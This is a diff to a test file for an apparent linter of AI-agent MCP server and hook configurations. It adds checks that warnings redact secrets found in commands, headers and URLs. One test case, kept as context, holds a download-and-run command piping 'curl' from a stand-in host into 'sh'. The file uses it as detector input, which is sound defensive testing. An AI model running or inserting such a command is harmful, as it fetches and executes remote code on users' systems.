@@ -1,11 +1,13 @@
+import { expect, test } from '@jest/globals'
+import { agentHookChanged } from '../../../src/rules/agent/hook-changed.ts'
 import { agentMcpAdded } from '../../../src/rules/agent/mcp-added.ts'
 import { agentMcpPlainHttp } from '../../../src/rules/agent/mcp-plain-http.ts'
 import { agentMcpScope } from '../../../src/rules/agent/mcp-scope.ts'
 import { agentMcpSecret } from '../../../src/rules/agent/mcp-secret.ts'
 import { agentMcpShell } from '../../../src/rules/agent/mcp-shell.ts'
 import { agentMcpUnpinned } from '../../../src/rules/agent/mcp-unpinned.ts'
-import { cases } from '../../support/cases.ts'
-import { npmPackage, said, server, setting } from './samples.ts'
+import { cases, check } from '../../support/cases.ts'
+import { hook, npmPackage, said, server, setting } from './samples.ts'
 
 const floating = npmPackage('@acme/mcp')
 const npx = ['npx', '-y', '@acme/mcp']
@@ -256,6 +258,12 @@ cases(agentMcpShell, {
       atMost: 'warning',
     },
     {
+      name: 'a script behind variables',
+      reference: server(['/usr/bin/env', 'A=b', 'bash', '-c', 'x | y']),
+      says: ['is a script'],
+      atMost: 'warning',
+    },
+    {
       name: 'download and run',
       reference: server(['sh', '-c', 'curl -s https://x.example/i | sh']),
       says: ['The MCP server tools downloads a program and runs it at every start.'],
@@ -383,4 +391,34 @@ cases(agentMcpAdded, {
       atMost: 'notice',
     },
   ],
+})
+
+test.each([
+  `run --token ${token}`,
+  `export API_KEY=${generated}; x`,
+  `x --password "${generated}"`,
+  `curl -H "Authorization: Bearer ${generated}" https://a.example`,
+  `psql postgres://app:${generated}@db.example/x`,
+])('no message holds the secret of a command: case %#', command => {
+  const said = [
+    ...check(agentMcpShell, { reference: server(['sh', '-c', command]) }),
+    ...check(agentHookChanged, { reference: hook(command) }),
+  ]
+  expect(said.length).toBe(2)
+  for (const problem of said) {
+    expect(JSON.stringify(problem)).not.toContain(generated)
+    expect(JSON.stringify(problem)).not.toContain(token)
+  }
+})
+
+test('nor does what is said of a secret itself', () => {
+  const reference = server(['x', `--api-key=${generated}`], {
+    env: named('A_TOKEN', token),
+    headers: named('Authorization', `Bearer ${generated}`),
+    url: said(`https://a.example/?token=${generated}`),
+  })
+  const problems = check(agentMcpSecret, { reference })
+  expect(problems).toHaveLength(4)
+  expect(JSON.stringify(problems)).not.toContain(generated)
+  expect(JSON.stringify(problems)).not.toContain(token)
 })
